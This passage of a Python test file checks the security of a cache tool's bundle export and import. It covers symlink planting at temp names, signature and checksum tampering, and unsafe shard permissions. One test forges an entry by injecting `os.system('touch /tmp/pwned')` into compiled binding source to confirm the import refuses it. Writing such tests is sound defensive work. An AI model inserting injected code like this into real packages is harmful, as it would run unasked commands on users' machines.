    with open(out, "wb") as o, open(err, "wb") as e:
        process = subprocess.Popen([GTCACHE, "--cache-dir", str(target), "import", str(bundle)],
                                   stdout=o, stderr=e, env=cli_env())
        _, status, usage = os.wait4(process.pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0, out.read_text() + err.read_text()
    imported = gtcache.open_store(target)
    [entry] = imported.scan().entries
    imported.verify_payload(imported.get(entry.key))
    return int(usage.ru_maxrss) * 1024  # KiB on Linux


@pytest.mark.slow
def test_import_of_a_300_MB_member_stays_far_below_its_size_in_memory(tmp_path: pathlib.Path, figures) -> None:
    """Memory does not grow with the member: a 300 MiB member costs about what a 1 MiB one does
    (what the interpreter and its imports take is the same in both)."""
    size = 300 << 20
    small, big = _import_peak_rss(tmp_path, 1 << 20), _import_peak_rss(tmp_path, size)
    assert big - small < size // 10, f"peak RSS {big >> 20} MiB for a 300 MiB member, {small >> 20} MiB for 1 MiB"
    figures.add("security", "import of a 300 MiB member: peak RSS of the importing process (1 MiB member)",
                f"{big / (1 << 20):.0f} MiB ({small / (1 << 20):.0f} MiB)")


# -- export writes nothing through planted links --------------------------------------------


def test_export_never_follows_a_planted_temp_link(source: gtcache.Store, tmp_path: pathlib.Path, figures) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = tmp_path / "out" / "cache.tar.gz"
    out.parent.mkdir()
    # The names the old export wrote through (".NAME.tmp-PID"), for this process and others.
    # A set: this process's pid may be one of the others (pids wrap at pid_max, then start over
    # at 300; a test process with pid 300-399 failed here with FileExistsError at the planting).
    for pid in sorted({os.getpid(), *range(1, 400)}):
        (out.parent / f".{out.name}.tmp-{pid}").symlink_to(victim)
    export_bundle(source, source.scan().entries, out)
    assert victim.read_text() == "precious"
    assert out.is_file() and not out.is_symlink()
    assert sorted(p.name for p in out.parent.iterdir() if not p.is_symlink()) == ["cache.tar.gz"]
    # An existing file (here a link to the victim) is refused without --force, and --force
    # replaces the link itself, never what it points to.
    out.unlink()
    out.symlink_to(victim)
    line = one_line_error(run_cli(source.root, "export", str(out)), 1)
    assert "exists already; --force replaces it" in line
    result = run_cli(source.root, "export", str(out), "--force")
    assert result.returncode == 0 and "KiB" in result.stdout, result.stderr
    assert victim.read_text() == "precious" and not out.is_symlink()
    assert len(import_bundle(gtcache.open_store(tmp_path / "dst"), out).imported) == 3
    figures.add("security", "export with symlinks planted at the old temp names: victim file changed", "no")


# -- pipes, reproducibility, broken entries at bundled keys ---------------------------------


def test_export_to_stdout_and_import_from_stdin(source: gtcache.Store, target: pathlib.Path) -> None:
    exported = subprocess.run([GTCACHE, "--cache-dir", str(source.root), "export", "-"], capture_output=True,
                              env=cli_env(**ENV_KEY), timeout=300, check=True)
    assert b"Exported 3 entries to standard output" in exported.stderr
    with pytest.raises(BundleError):  # the bytes on stdout are a signed bundle: another key fails
        read_bundle(io.BytesIO(exported.stdout), gtcache.open_store(target), key=b"other")
    pipe = subprocess.run(f"'{GTCACHE}' --cache-dir '{source.root}' export - | '{GTCACHE}' --cache-dir '{target}' import -",
                          shell=True, capture_output=True, text=True, env=cli_env(**ENV_KEY), timeout=300)
    assert pipe.returncode == 0 and "Imported 3 entries" in pipe.stdout, pipe.stderr
    garbage = run_cli(target, "import", "-", stdin=b"not a bundle at all", env=cli_env())
    assert one_line_error(garbage, 1).startswith("Error: Bundle '<stdin>' is not a gtcache bundle")


def test_broken_entry_at_a_bundled_key_is_replaced(tmp_path: pathlib.Path, figures) -> None:
    source = gtcache.open_store(tmp_path / "src")
    for index in range(6):
        publish(source, f"prog{index}", payload=f"print({index})\n".encode() * 50)
    keys = sorted(e.key for e in source.scan().entries)
    bundle = export_bundle(source, source.scan().entries, tmp_path / "six.tar.gz").path
    assert bundle is not None
    target = gtcache.open_store(tmp_path / "dst")
    # Two entries at bundled keys, broken two ways: one the size check sees (lookup raises
    # CorruptEntryError), one only its checksum shows.
    truncated = publish(target, "prog4", payload=b"print(4)\n" * 50)
    flipped = publish(target, "prog0", payload=b"print(0)\n" * 50)
    (truncated.path / "program.py").write_bytes(b"print(4)\n")
    (flipped.path / "program.py").write_bytes(flip(b"print(0)\n" * 50))
    assert {truncated.key, flipped.key} <= set(keys)
    result = run_cli(target.root, "import", str(bundle))
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.startswith("Imported 6 entries (2 replaced broken ones)"), result.stdout
    for entry_key in keys:
        target.verify_payload(target.get(entry_key))
    assert sorted(import_bundle(target, bundle).existing) == keys
    figures.add("security", "import of 6 entries onto 2 broken ones at the same keys: imported, exit code", "6, 0")


# -- real compiled entries -------------------------------------------------------------------


@pytest.mark.slow
def test_compiled_entries_tampered_or_good(compiled_store: CompiledStore, tmp_path: pathlib.Path, figures) -> None:
    source = gtcache.open_store(compiled_store.path)
    chosen = [e for e in source.scan().entries if e.program == "edge_diff"]
    assert len(chosen) == 3, [e.backend for e in chosen]
    bundle = export_bundle(source, chosen, tmp_path / "edge_diff.tar.gz", key=KEY).path
    assert bundle is not None
    members = read_members(bundle)
    manifest, signature = members[0][1], members[1][1]
    dace_key = compiled_store.variant("edge_diff", "dace_cpu").key
    dace_record = f"entries/{dace_key[:2]}/{dace_key}/entry.json"

    def evil_binding(record: dict) -> None:
        fields = record["artifact"]["fields"]
        fields["binding_source_code"] = "import os\nos.system('touch /tmp/pwned')\n" + fields["binding_source_code"]

    forged = build(tmp_path / "forged.tar.gz", edit(payload(members), lambda n: n == dace_record,
                                                     lambda d: rewrite_record(d, evil_binding)),
                   manifest=manifest, signature=signature)
    fresh = tmp_path / "fresh"
    gtcache.open_store(fresh)
    line = refused_by_cli(fresh, forged, env=cli_env(**ENV_KEY))
    assert re.search(f"'{dace_record}' (does not match its SHA-256|has .*, the manifest says)", line), line
    # Every payload file of every backend: one flipped byte is refused.
    for info, _ in payload(members):
        if info.name.endswith("entry.json"):
            continue
        bad = build(tmp_path / "bad.tar.gz", edit(payload(members), lambda n, i=info: n == i.name, flip),
                    manifest=manifest, signature=signature)
        with pytest.raises(BundleError, match="does not match its SHA-256"):
            import_bundle(gtcache.open_store(fresh), bad, key=KEY)
    assert not list(fresh.glob("entries/*/*"))
    # The good bundle, imported through the real command, hits in a fresh process.
    result = run_cli(fresh, "import", str(bundle), "--require-signature", env=cli_env(**ENV_KEY))
    assert result.returncode == 0 and "Imported 3 entries" in result.stdout, result.stdout + result.stderr
    for backend in ("gtfn_cpu", "dace_cpu", "roundtrip"):
        outcomes = load_in_fresh_process(fresh, "edge_diff", backend, seed=4, size=SIZE, out_file=tmp_path / "o.npy")
        assert [o["status"] for o in outcomes] == ["hit"], (backend, outcomes)
    figures.add("security", "signed bundle, dace binding_source_code forged: exit code", 1)


def test_write_and_read_one_entry_through_a_stream(source: gtcache.Store, tmp_path: pathlib.Path) -> None:
    """The form a remote tier moves one entry in: bytes in memory, signed, read back."""
    entry = source.get(next(e.key for e in source.scan().entries if e.program == "two_files"))
    buffer = io.BytesIO()
    report = write_bundle(buffer, source, [entry], key=KEY)
    assert report.entries == 1 and report.size == len(buffer.getvalue()) and report.signed
    target = gtcache.open_store(tmp_path / "dst")
    assert read_bundle(io.BytesIO(buffer.getvalue()), target, key=KEY, require_signature=True).imported == (entry.key,)
    target.verify_payload(target.get(entry.key))
    assert sign(KEY, read_members_from(buffer.getvalue())[0][1]) == read_members_from(buffer.getvalue())[1][1]


def read_members_from(data: bytes) -> list[Member]:
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
        return [(i, tar.extractfile(i).read()) for i in tar.getmembers()]  # type: ignore[union-attr]


def test_a_bundle_naming_other_keys_than_expected_is_refused_before_staging(tmp_path: pathlib.Path) -> None:
    from tests.helpers import publish

    source = gtcache.open_store(tmp_path / "source", create=True)
    a = publish(source, "progA")
    out = io.BytesIO()
    write_bundle(out, source, [source.get(a.key)], key=b"k" * 32)
    target = gtcache.open_store(tmp_path / "target", create=True)
    with pytest.raises(BundleError, match="not 'cdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd' it is named after"):
        read_bundle(io.BytesIO(out.getvalue()), target, key=b"k" * 32, require_signature=True,
                           expect=("cd" * 16,))
    assert target.lookup(a.key) is None
    report = read_bundle(io.BytesIO(out.getvalue()), target, key=b"k" * 32, expect=(a.key,))
    assert list(report.imported) == [a.key]


def test_an_import_into_a_shard_folder_lookups_refuse_imports_nothing(tmp_path: pathlib.Path) -> None:
    """A key whose shard folder (``entries/<xx>``) lookups refuse (writable by everyone here)
    refuses the import before anything is written: what it published there would never be
    served, and an "imported" would say otherwise (a mutation audit: the import went on, with
    the entry broken where it landed, and no test noticed)."""
    source = gtcache.open_store(tmp_path / "source")
    entry = publish(source)
    bundle = tmp_path / "one.tar.gz"
    export_bundle(source, source.scan().entries, bundle)
    target = gtcache.open_store(tmp_path / "target")
    shard = target.root / "entries" / entry.key[:2]
    shard.mkdir()
    os.chmod(shard, 0o777)
    with pytest.raises(BundleError, match=r"Cannot import entry .*writable by everyone.*; nothing was imported"):
        import_bundle(gtcache.open_store(target.root), bundle)
    assert not any(shard.iterdir())
    os.chmod(shard, 0o755)
    assert import_bundle(gtcache.open_store(target.root), bundle).imported == (entry.key,)
